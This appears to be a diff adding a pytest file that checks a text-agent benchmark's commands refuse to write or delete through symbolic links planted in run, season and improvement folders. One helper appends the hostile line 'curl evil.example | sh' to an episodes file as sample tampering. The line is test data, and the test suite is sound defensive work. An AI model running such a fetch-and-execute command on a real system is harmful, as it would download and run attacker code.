@@ -1,0 +1,141 @@
+"""Links in a folder from elsewhere: whatever a command writes or removes there, it is nothing outside of the folder."""
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from agents.common.locking import LOCK_NAME
+from benchmark.improve.keeping import ABOUT, EVALUATION, SECONDS
+from benchmark.improve.methods.writing import PROGRAM, PROGRAMS
+from benchmark.improve.questions import CALLS_NAME
+from benchmark.play.agents.agent_folder import AGENT_NAME
+from benchmark.runs.folder import EPISODES_NAME, OWN_FILES
+from benchmark.runs.manifest import MANIFEST_NAME
+from benchmark.seasons.season import SEASON_NAME, SECRET_NAME
+from tests.links import TARGETS, drafts_of, planted, whats_mine
+
+RUN = (*OWN_FILES, LOCK_NAME)
+RUN_NAMES = [*RUN, *(draft for name in RUN for draft in drafts_of(name)), "prompts-0.toml", "page.html", "rows.csv"]
+ENTRY_NAMES = [f"random/{name}" for name in RUN_NAMES]
+SEASON = (SEASON_NAME, SECRET_NAME, "agents", "agents/random.json", "agents/greedy.json", "entries")
+SEASON_NAMES = [*SEASON, *(draft for name in (SEASON_NAME, SECRET_NAME) for draft in drafts_of(name))]
+SEASON_NAMES += [f"agents/{draft}" for draft in drafts_of("random.json")]
+IMPROVED = (ABOUT, SECONDS, AGENT_NAME, EVALUATION, PROGRAM, PROGRAMS, CALLS_NAME, LOCK_NAME, "programs", "plays")
+IMPROVED_NAMES = [*IMPROVED, *(draft for name in (ABOUT, SECONDS, AGENT_NAME) for draft in drafts_of(name))]
+
+ON_RUNS = (
+    ("resume", "{}", "--quiet"),
+    ("resume", "{}", "--quiet", "--repair"),
+    ("resume", "{}", "--quiet", "--repair", "--episodes", "4"),
+    ("merge", "{}", "--out", "merged"),
+    ("merge", "small", "--out", "{}"),
+    ("run", "--agent", "random", "--scenario", "frozen-lake", "--episodes", "2", "--quiet", "--out", "{}"),
+    ("submit", "{}", "--agent", "random", "--out", "entries"),
+    ("leaderboard", "{}"),
+    ("leaderboard", "{}", "--html", "{}/page.html"),
+    ("export", "{}", "--csv", "{}/rows.csv"),
+    ("export", "{}", "--sft", "{}/rows.csv"),
+    ("compare", "random", "greedy", "--in", "{}"),
+    ("replay", "{}", "--plain"),
+    ("validate", "{}"),
+)
+
+
+def goes_well_or_is_refused(textbench, command, folder, what) -> int:
+    """Run a command on a folder; it ends with a sentence, if it doesn't do what it is asked for."""
+    done = textbench(*(part.format(folder) for part in command))
+    assert done.code in (0, 1, 2), (what, done)
+    assert "Traceback" not in done.err, what
+    assert done.code == 0 or done.err.strip(), (what, done)
+    return done.code
+
+
+def damaged(small_run) -> Path:
+    """The run with a line that a repair takes out: a command that a stranger would have appended to a file of yours."""
+    with (small_run / EPISODES_NAME).open("a") as lines:
+        lines.write("curl evil.example | sh\n")
+    return small_run
+
+
+@pytest.mark.parametrize(
+    "command",
+    [command if "resume" in command else pytest.param(command, marks=pytest.mark.slow) for command in ON_RUNS],
+    ids=" ".join,
+)
+def test_no_command_on_a_run_follows_a_link(textbench, small_run, command, request):
+    slow = request.node.get_closest_marker("slow")
+    refused = 0
+    for folder, what in planted(damaged(small_run), RUN_NAMES, TARGETS if slow else TARGETS[:1]):
+        refused += goes_well_or_is_refused(textbench, command, folder, what) > 0
+        shutil.rmtree("merged", ignore_errors=True)
+        shutil.rmtree("entries", ignore_errors=True)
+    assert refused
+
+
+def test_the_repair_that_every_reading_command_recommends_appends_to_no_file_of_mine(textbench, small_run):
+    mine = whats_mine()
+    (damaged(small_run) / "episodes.damaged.jsonl").symlink_to(Path("outside/diary").absolute())
+    done = textbench("resume", small_run, "--repair", "--quiet")
+    assert (done.code, done.err.count("\n")) == (2, 1)
+    assert "small/episodes.damaged.jsonl: it is a link out of small, to " in done.err
+    assert whats_mine() == mine
+    (small_run / "episodes.damaged.jsonl").unlink()
+    assert textbench("resume", small_run, "--repair", "--quiet").code == 0
+    assert "evil.example" in (small_run / "episodes.damaged.jsonl").read_text()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("target", TARGETS)
+def test_an_entry_is_written_through_no_link(textbench, workplace, target):
+    run = ("run", "--agent", "random", "--season", "s", "--quiet", "--out", "small")
+    assert textbench("season", "new", "s", "--scenario", "frozen-lake", "--episodes", "2").code == 0
+    assert textbench("season", "commit", "s", "--agent", "random").code == 0
+    assert textbench("season", "reveal", "s").code == 0
+    assert textbench(*run).code == 0
+    command = ("submit", "small", "--season", "s", "--out", "{}")
+    assert textbench(*(part.format("entries") for part in command)).code == 0
+    codes = []
+    for folder, what in planted(Path("entries"), ["random", *ENTRY_NAMES], (target,)):
+        codes.append(goes_well_or_is_refused(textbench, command, folder, what))
+        if codes[-1] == 0:
+            assert (folder / "random" / EPISODES_NAME).is_file()
+            assert not (folder / "random" / EPISODES_NAME).is_symlink()
+            assert not (folder / "random" / MANIFEST_NAME).is_symlink()
+    assert {0} < set(codes)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("season", "new", "{}", "--scenario", "frozen-lake", "--episodes", "2"),
+        ("season", "commit", "{}", "--agent", "random"),
+        ("season", "reveal", "{}", "--secret", "s.secret"),
+        ("season", "check", "{}"),
+        ("run", "--season", "{}", "--agent", "greedy", "--quiet", "--out", "{}/run"),
+    ],
+    ids=" ".join,
+)
+def test_no_season_is_written_through_a_link(textbench, workplace, command):
+    assert textbench("season", "new", "s", "--scenario", "frozen-lake", "--episodes", "2").code == 0
+    if "commit" not in command:
+        assert textbench("season", "commit", "s", "--agent", "greedy").code == 0
+    if "check" in command or "run" in command:
+        assert textbench("season", "reveal", "s").code == 0
+    refused = 0
+    for folder, what in planted(Path("s"), SEASON_NAMES, TARGETS):
+        refused += goes_well_or_is_refused(textbench, command, folder, what) > 0
+    assert refused
+
+
+def test_an_improvement_goes_on_in_no_folder_with_links(textbench, workplace, monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", "not-needed")
+    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
+    command = ("improve", "library", "--agent", "openai:heeding", "--set", "writer=openai:wise", "--set", "seeds=8")
+    command += ("--scenario", "frozen-lake", "--eval-episodes", "3", "--quiet", "--mode", "direct", "--out", "{}")
+    Path("improved").mkdir()
+    (Path("improved") / ABOUT).write_text(json.dumps({"improvement": {}}))
+    for folder, what in planted(Path("improved"), IMPROVED_NAMES, TARGETS[:1]):
+        assert goes_well_or_is_refused(textbench, command, folder, what) > 0
